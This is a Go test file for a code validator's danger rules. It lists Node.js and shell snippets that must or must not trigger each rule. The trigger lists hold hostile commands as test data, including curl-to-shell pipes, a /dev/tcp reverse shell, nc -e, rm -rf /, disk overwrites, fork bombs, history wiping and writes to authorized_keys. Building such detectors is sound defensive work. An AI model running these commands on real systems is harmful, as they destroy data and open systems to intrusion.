package validate

import (
	"slices"
	"strings"
	"testing"
)

// triggers are, for each rule, programs that cause a warning, and programs with the same words that must not: in
// text, in a comment, as a name of their own, as a member of something else.
type triggers struct {
	rule    string
	yes, no []string
}

func nodeTriggers() []triggers {
	return []triggers{
		{"node-eval", []string{"eval('1')", "(0, eval)('1')", "globalThis.eval(x)", "window['ev' + 'al'](x)",
			"eval?.('1')", "import fs from 'fs'; eval(fs)", "await eval('1')",
			"export const a = eval(x)", "export default function f() { eval(x) }", "for await (const a of b) eval(a)",
			"class A { eval = f } eval(x)", "/['\"]/.test(x); eval(y)", "a / b; eval(c / d)", "f([a,\n// it's\nb]); eval(x + '\"')",
			"if (a) /[/'\"]/.test(b), eval(c)",
			"[e] = y; { const [a, { b = 1 }] = z; eval(b) }", "new (require('worker_threads').Worker)(x, { eval: true })"},
			[]string{"'eval(1)'", "// eval(1)\n1", "const evaluate = 1; evaluate", "a.b.eval('1')", "function eval_(x) {} eval_(1)",
				"const o = {eval: 1}; o.eval",
				"function f(eval) { eval(1) }", "`eval(1)`", "/eval(1)/", "eval", "parser.eval(x)",
				"function f() { const e = eval; return e } function g(e) { e(x) }",
				"const o = { eval(x) {}, get eval() { return 1 } }", "class A extends f(g) { eval(x) {} static async *eval(y) {} }"}},
		{"node-function-constructor", []string{"new Function('return 1')", "Function('a')",
			"new globalThis.Function('x')"},
			[]string{"'new Function(1)'", "// new Function('x')\n1", "class Function2 {} new Function2()", "a.Function('x')",
				"function Function(x) {} Function(1)",
				"typeof x === 'function'", "x instanceof Function", "a.constructor.name",
				"const has = Function.call.bind(Object.prototype.hasOwnProperty); has(a, 'b')"}},
		{"node-timer-text", []string{"setTimeout('f()', 1)", "setInterval(`f()`, 1)", "setTimeout('f(' + x + ')', 1)",
			"globalThis.setTimeout('x')"},
			[]string{"setTimeout(() => {}, 1)", "setTimeout(f, 1)", "'setTimeout(\"x\")'", "// setTimeout('f()')\n1", "a.setTimeout('x', 1)",
				"const {setTimeout} = require('timers/promises'); setTimeout('x')", "setTimeout(a + b, 1)"}},
		{"node-vm", []string{"require('vm').runInNewContext('x')", "const vm = require('node:vm'); new vm.Script('x')",
			"import vm from 'vm'; vm.runInThisContext(x)",
			"import { runInContext as r } from 'node:vm'; r('x', c)", "import * as v from 'vm'; v.runInNewContext(x)",
			"const {Script} = require('vm'); new Script('x')"},
			[]string{"'vm.runInNewContext(1)'", "// vm.runInNewContext(1)\n1", "const vm = {runInNewContext() {}}; vm.runInNewContext()",
				"a.vm.runInNewContext('x')", "new Script('x')"}},
		{"node-encoded-code", []string{"eval(Buffer.from('YQ==', 'base64').toString())", "eval(atob('YQ=='))",
			"new Function(require('zlib').gunzipSync(b).toString())()", "eval(unescape('%41'))"},
			[]string{"Buffer.from('YQ==', 'base64').toString()", "eval(f(x))", "'eval(atob(x))'", "// eval(atob(x))\n1", "a.eval(atob(x))"}},
		{"node-remote-code", []string{"eval(await (await fetch('http://a')).text())",
			"fetch(u).then(r => r.text()); new Function(await (await fetch(u)).text())"},
			[]string{"await (await fetch('http://a')).text()", "// eval(fetch(x))\n1", "'eval(fetch(x))'", "a.eval(fetch(x))", "eval(a.fetch(x))"}},
		{"node-shell", []string{"require('child_process').exec('ls')", "const { execSync } = require('child_process'); execSync('ls')",
			"const { execSync: run } = require('node:child_process'); run('ls')", "import { exec } from 'child_process'; exec(x)",
			"require('child_process').spawn('ls', [], { shell: true })", "const cp = require('child_process'); cp.spawn('sh', ['-c', 'ls'])",
			"child_process.exec('ls')", "(await import('child_process')).exec('ls')"},
			[]string{"require('child_process').spawn('ls', ['-l'])", "/a/.exec('b')", "re.exec('ls')", "'child_process.exec(1)'",
				"// require('child_process').exec('ls')\n1",
				"const exec = f; exec('ls')", "db.exec('DELETE')", "require('child_process').execFile('ls', { shell: false })"}},
		{"node-binding", []string{"process.binding('fs')", "process['bind' + 'ing']('x')", "process.dlopen(m, 'x.node')",
			"import process from 'process'; process._linkedBinding('x')"},
			[]string{"'process.binding(1)'", "// process.binding('fs')\n1", "gl.binding('x')", "const process = f(); process.binding('x')",
				"process.bind"}},
		{"node-dynamic-require", []string{"require(x)", "import(x)", "require(`./${x}`)", "module.require(x)"},
			[]string{"require('fs')", "import('fs')", "require('f' + 's')", "'require(x)'", "// require(x)\n1", "a.require(x)",
				"function require(x) {} require(x)", "require.resolve(x)"}},
		{"node-system-write", []string{"fs.writeFileSync('/etc/passwd', 'x')", "require('fs').promises.writeFile('/usr/bin/x', '')",
			"import fs from 'fs/promises'; fs.rm('/etc/x')",
			"fs.renameSync('a', '/etc/b')", "fs.createWriteStream(`/etc/${x}`)", "const {writeFile: w} = require('fs'); w('/etc/x', '')",
			"fs.openSync('/etc/x', 'w')"},
			[]string{"fs.writeFileSync('/tmp/x', '')", "fs.readFileSync('/etc/passwd')", "fs.writeFileSync('/dev/null', '')",
				"fs.openSync('/etc/x', 'r')", "'fs.writeFileSync(\"/etc/x\")'",
				"// fs.writeFileSync('/etc/x')\n1", "a.writeFileSync('/etc/x')", "const fs = {}; fs.writeFileSync('/etc/x')",
				"fs.writeFileSync('etc/x', '/etc/y')", "fs.copyFileSync('/etc/hosts', 'x')"}},
		{"node-delete-all", []string{"fs.rmSync('/', { recursive: true })", "fs.rm(os.homedir(), {recursive: true, force: true}, f)",
			"require('fs').promises.rm('/', {recursive: true})", "fs.rmdirSync('/home', {recursive: true})",
			"const { rm } = require('fs').promises; rm('/', { recursive: true })",
			"require('rimraf').sync('/')"},
			[]string{"fs.rmSync('/', { recursive: false })", "fs.rmSync('./build', { recursive: true })", "'fs.rmSync(\"/\", {recursive: true})'",
				"// fs.rmSync('/', {recursive: true})\n1", "a.rmSync('/', {recursive: true})"}},
		{"node-socket", []string{"require('net').createServer()", "const http = require('http'); http.createServer(f).listen(1)",
			"import dgram from 'dgram'; dgram.createSocket('udp4')", "new (require('net').Socket)()", "net.connect(1)"},
			[]string{"'net.createServer()'", "// net.createServer()\n1", "a.createServer()", "const net = new Net(); net.connect(1)",
				"db.connect()"}},
		{"node-network", []string{"fetch('http://a')", "require('https').get('https://a')", "const axios = require('axios'); axios.get(u)",
			"import axios from 'axios'; axios(u)", "new WebSocket('ws://a')"},
			[]string{"'fetch(1)'", "// fetch('http://a')\n1", "a.fetch(1)", "function fetch() {} fetch()", "map.get('x')",
				"class A { fetch() { return this.fetch() } }"}},
		{"node-kill-all", []string{"process.kill(-1)", "process.kill(process.ppid, 'SIGKILL')", "process.kill(1, 9)"},
			[]string{"process.kill(process.pid)", "child.kill(-1)", "'process.kill(-1)'", "// process.kill(-1)\n1", "process.kill(pid)",
				"const process = a; process.kill(-1)"}},
		{"node-prototype", []string{"a.__proto__.b = 1", "a['__proto__'].b = 1", "Object.prototype.x = 1", "a.__proto__ = b",
			"Array.prototype.map = f", "a.constructor.prototype.x = 1",
			"Object.defineProperty(Object.prototype, 'x', {})", "Object.assign(Object.prototype, a)"},
			[]string{"const a = { __proto__: null }", "A.prototype.m = f", "'a.__proto__.b = 1'", "// a.__proto__.b = 1\n1", "const __proto__ = 1",
				"Object.create(Object.prototype)", "Array.prototype.slice.call(a)"}},
	}
}

func shellTriggers() []triggers {
	return []triggers{
		{"shell-delete-all", []string{"rm -rf /", "rm -fr -- /", "rm -r -f /*", "rm --recursive --force /", "sudo rm -rf /", "/bin/rm -rf /",
			"\\rm -rf /", "'rm' -rf /",
			"rm -rf ~", `rm -rf "$HOME"`, "rm -rf $HOME/*", "rm -Rf /etc", "if true; then rm -rf /; fi", "echo $(rm -rf /)", "sh -c 'rm -rf /'",
			"eval 'rm -rf /'", "find / -delete",
			"find / -exec rm -rf {} +", "env A=b rm -rf /", "timeout 5 rm -rf /", "true && rm -rf /", "rm -rf $'/'", "xargs rm -rf / < f",
			"f() { rm -rf /; }; f", "rm -rf ../..", "bash <<E\nrm -rf /\nE", "sh -s <<< 'rm -rf /'", "r\"\"m -rf /"},
			[]string{"rm -rf ./build", "rm -rf /tmp/x", "rm /", "echo 'rm -rf /'", "# rm -rf /\ntrue", "rm_rf=/; echo $rm_rf", "git rm -rf /",
				"d=$(mktemp -d); rm -rf \"$d\"/", `rm -rf "$1"/`, `rm -rf "${X:?}"/`,
				"rm() { echo; }; rm -rf /", "echo rm -rf /", "cat <<E\nrm -rf /\nE", "read d; rm -rf $d/", "sh -c", "true; bash -lc", "rm -rf build/*",
				"find / -name '*.pyc' -delete", "for d in a b; do rm -rf $d/; done", "rm -f /"}},
		{"shell-remote-code", []string{"curl http://a | sh", "wget -qO- http://a | bash", "curl -s a | sudo bash -s -- x", "bash <(curl a)",
			`bash -c "$(curl a)"`, `eval "$(wget -O- a)"`, ". <(curl a)", "curl a | tee x | sh",
			"curl a | python3 -", "curl a | env X=1 sh", "sh -c \"`curl a`\"", "source <(curl a)", "bash <<< \"$(curl a)\"",
			"sh <<E\ncurl a | sh\nE"},
			[]string{"curl a | jq .", "curl a -o x", "echo 'curl a | sh'", "# curl a | sh\ntrue", "curl a | sh_lint", "curl a | python3 x.py",
				"curl=1; echo | sh", "git curl | sh", "curl a | python3 -c 'print(1)'", "curl a | grep sh"}},
		{"shell-encoded-code", []string{"echo x | base64 -d | sh", "bash <(base64 --decode f)", `eval "$(echo x | base64 -d)"`,
			"xxd -r -p f | bash", "openssl enc -d -aes-256-cbc | sh", "base64 -D f | bash"},
			[]string{"base64 -d f > g", "base64 f | sh_lint", "echo 'base64 -d | sh'", "# base64 -d | sh\ntrue", "base64 f | sh",
				"my base64 -d | sh"}},
		{"shell-fork-bomb", []string{":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & f & }; f", "sh -c ':(){ :|:& };:'"},
			[]string{"f() { g | g & }; f", "walk() { for d in *; do walk \"$d\"; done; }", "echo ':(){ :|:& };:'", "# :(){ :|:& };:\ntrue",
				"while true; do sleep 1 & done", "f() { f2 | f3; }"}},
		{"shell-raw-disk", []string{"dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "cat f >> /dev/nvme0n1", "tee /dev/sdb", "shred /dev/sda",
			"cp f /dev/vda1"},
			[]string{"dd if=/dev/sda of=x", "dd of=/tmp/sda", "echo /dev/sda > x", "echo 'dd of=/dev/sda'", "# > /dev/sda\ntrue", "echo > /dev/null",
				"echo of=/dev/sda"}},
		{"shell-format", []string{"mkfs.ext4 /dev/sda", "mkfs -t ext4 x", "sudo fdisk /dev/sda"},
			[]string{"echo mkfs", "'mkfs_' x", "# mkfs /dev/sda\ntrue", "man mkfs", "mkfs=1", "mkfs() { :; }; mkfs"}},
		{"shell-permissions-all", []string{"chmod -R 777 /", "chown -R a:b /", "chmod --recursive 777 /*", "chgrp -R a ~"},
			[]string{"chmod -R 755 ./x", "chmod 777 /tmp/x", "echo 'chmod -R 777 /'", "# chmod -R 777 /\ntrue", "git chmod -R 777 /"}},
		{"shell-system-write", []string{"echo x > /etc/passwd", "echo x >> /etc/hosts", "echo x | tee /etc/x",
			"echo k | tee -a ~/.ssh/authorized_keys", "cp a /usr/bin/b", "sed -i s/a/b/ /etc/x", "touch /etc/x",
			"ln -s a /usr/lib/b", "echo x &> /etc/x", "echo >> ~/.bashrc", "mv a $HOME/.ssh/x", "rm /etc/passwd"},
			[]string{"cat /etc/passwd", "cat < /etc/passwd", "cp /etc/hosts .", "echo /etc/passwd > x", "echo 'x > /etc/passwd'",
				"# > /etc/passwd\ntrue", "echo > /dev/null 2>&1", "sed s/a/b/ /etc/x", "echo > etc/x", "cat <<E\n> /etc/x\nE"}},
		{"shell-eval", []string{`eval "$1"`, "eval $(f)", "read x; eval $x"}, []string{"eval 'echo a'", "echo eval $1", "# eval $1\ntrue",
			"evaluate $1", "eval=1", "git eval $1", "eval() { :; }; eval $1"}},
		{"shell-reverse-shell", []string{"nc -e /bin/sh a 1", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "ncat --exec sh a 1", "socat EXEC:sh TCP:a:1",
			"nc -lvp 1 -e sh"}, []string{"nc a 1", "echo nc -e sh", "# nc -e sh\ntrue", "rsync -e ssh a b", "nc=1"}},
		{"shell-socket", []string{"exec 3<>/dev/tcp/a/80", "echo x > /dev/udp/a/53", "cat < /dev/tcp/a/1"},
			[]string{"echo /dev/tcp/a/80", "# > /dev/tcp/a/80\ntrue", "echo > dev/tcp/a", "echo '> /dev/tcp/a/80'"}},
		{"shell-network", []string{"curl a", "wget a", "ssh a ls", "nc a 1", "/usr/bin/curl a"},
			[]string{"echo curl a", "# curl a\ntrue", "curl=1", "git curl", "curl() { :; }; curl a", "'curl a'"}},
		{"shell-sudo", []string{"sudo ls", "su -", "doas ls", "sudo -u x ls"}, []string{"echo sudo ls", "# sudo ls\ntrue", "sudo=1", "apt sudo",
			"sudoku"}},
		{"shell-history", []string{"history -c", "unset HISTFILE", "HISTFILE=/dev/null", "export HISTSIZE=0", "set +o history",
			"> ~/.bash_history", "rm ~/.bash_history"}, []string{"history", "echo history -c", "# history -c\ntrue", "HISTSIZE=1000",
			"git history -c", "unset X"}},
		{"shell-schedule", []string{"crontab f", "crontab -e", "crontab -u al f", "echo x | crontab -", "echo x > /etc/cron.d/y", "at now"},
			[]string{"crontab -l", "crontab -u x -l", "echo crontab f", "# crontab f\ntrue", "cat /etc/crontab", "look at x"}},
		{"shell-kill-all", []string{"kill -9 -1", "kill -KILL -- -1", "kill 1", "kill -s KILL -1", "killall5"},
			[]string{"kill -1 123", "kill $pid", "echo kill -9 -1", "# kill -9 -1\ntrue", "kill -l", "kill -9 1234", "git kill -9 -1"}},
	}
}

// rulesOf analyses source and returns the rules that matched.
func rulesOf(t *testing.T, name, source string, o Options) []string {
	t.Helper()
	r, err := Analyze(t.Context(), Code{Name: name, Source: []byte(source)}, o)
	if err != nil {
		t.Fatalf("%q: %v", source, err)
	}
	if !r.Valid {
		t.Errorf("%q is not valid: %v", source, r.Problems)
	}
	var rules []string
	for _, d := range r.Dangers {
		rules = append(rules, d.Rule)
	}
	return rules
}

func testTriggers(t *testing.T, language, file string, table []triggers, o Options) {
	for _, rule := range Rules() {
		if strings.HasPrefix(rule.Name, language+"-") && !slices.ContainsFunc(table, func(tt triggers) bool {
			return tt.rule == rule.Name &&
				len(tt.yes) > 0 && len(tt.no) > 0
		}) {
			t.Errorf("no test for %s", rule.Name)
		}
	}
	for _, tt := range table {
		t.Run(tt.rule, func(t *testing.T) {
			for _, source := range tt.yes {
				if got := rulesOf(t, file, source, o); !slices.Contains(got, tt.rule) || slices.Contains(got, unread) {
					t.Errorf("%q: got %v, want %s", source, got, tt.rule)
				}
			}
			for _, source := range tt.no {
				if got := rulesOf(t, file, source, o); slices.Contains(got, tt.rule) || slices.Contains(got, unread) {
					t.Errorf("%q: got %v, want no %s", source, got, tt.rule)
				}
			}
			off := o
			off.RulesOff = []string{tt.rule}
			if got := rulesOf(t, file, tt.yes[0], off); slices.Contains(got, tt.rule) {
				t.Errorf("%q: got %v with %s switched off", tt.yes[0], got, tt.rule)
			}
		})
	}
}

func TestNodeRules(t *testing.T)  { testTriggers(t, Node, "a.js", nodeTriggers(), Options{}) }
func TestShellRules(t *testing.T) { testTriggers(t, Shell, "a.sh", shellTriggers(), Options{}) }

// TestTypeScriptRules sends JavaScript cases as TypeScript, with a type above each, so that positions have to be
// mapped back.
func TestTypeScriptRules(t *testing.T) {
	for _, tt := range nodeTriggers() {
		source := "interface A {\n  x: number\n}\n" + tt.yes[0]
		r, err := Analyze(t.Context(), Code{Name: "a.ts", Source: []byte(source)}, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if i := slices.IndexFunc(r.Dangers, func(d Danger) bool { return d.Rule == tt.rule }); i < 0 || r.Dangers[i].Line != 4 {
			t.Errorf("%q: got %+v, want %s in line 4", tt.yes[0], r.Dangers, tt.rule)
		}
	}
}

func TestRulesTable(t *testing.T) {
	found := map[string]bool{}
	for language, paths := range rulesTable().patterns {
		for path, patterns := range paths {
			for _, p := range patterns {
				found[p.rule.Name] = true
				if !strings.HasPrefix(p.rule.Name, language+"-") || p.rule.Severity == command && len(p.conditions) == 0 {
					t.Errorf("%s: odd pattern of %s: %+v", path, p.rule.Name, p)
				}
				for _, c := range p.conditions {
					c.matches() // it must compile
				}
			}
		}
	}
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.Name] {
			t.Errorf("%s is there twice", r.Name)
		}
		seen[r.Name] = true
		language, _, _ := strings.Cut(r.Name, "-")
		if !slices.Contains([]string{Python, Node, Shell, unread}, language) || severityRank(r.Severity) == 0 || r.Reason == "" {
			t.Errorf("odd rule %+v", r)
		}
		if !found[r.Name] && r.Name != unread {
			t.Errorf("%s has no pattern", r.Name)
		}
		if strings.Contains(strings.ToLower(r.Reason), "host") {
			t.Errorf("%s speaks of the host: %s", r.Name, r.Reason)
		}
	}
}
